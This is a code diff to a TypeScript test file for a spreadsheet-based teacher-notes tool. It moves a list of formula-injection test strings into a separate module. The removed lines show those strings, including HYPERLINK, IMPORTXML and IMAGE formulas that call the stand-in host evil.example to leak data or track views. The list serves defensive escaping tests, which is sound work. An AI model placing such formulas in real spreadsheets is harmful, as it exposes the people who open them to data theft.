@@ -7,6 +7,7 @@
 import type { Workbook } from '../../emulator';
 import type { CallInput, FamilyKnowledge, LogCallResult, SidebarContext } from '../../src/common/rpc';
 import { DEFAULT_PROMPTS, FAMILY_KNOWLEDGE_COLUMNS } from '../../src/common/schema';
+import { INJECTIONS } from './injections';
 import {
   ANA,
   ANA_GOAL,
@@ -20,20 +21,6 @@ import {
   type School,
   school,
 } from './school-fixture';
-
-/** Texts a spreadsheet would read as a formula, a number or a command if written as typed. */
-const INJECTIONS = [
-  '=1+1',
-  '+1 555 0100',
-  '-2+3',
-  '@SUM(1,2)',
-  '\t=1+1',
-  '\r=1+1',
-  '＝1+1',
-  '=HYPERLINK("http://evil.example/steal","Click me")',
-  '=IMPORTXML("http://evil.example/x","//a")',
-  '=IMAGE("http://evil.example/pixel.png")',
-];
 
 /** Every field a teacher types free text into. */
 const FREE_TEXT = ['personReached', 'strengths', 'hopes', 'learned', 'followUp'] as const;
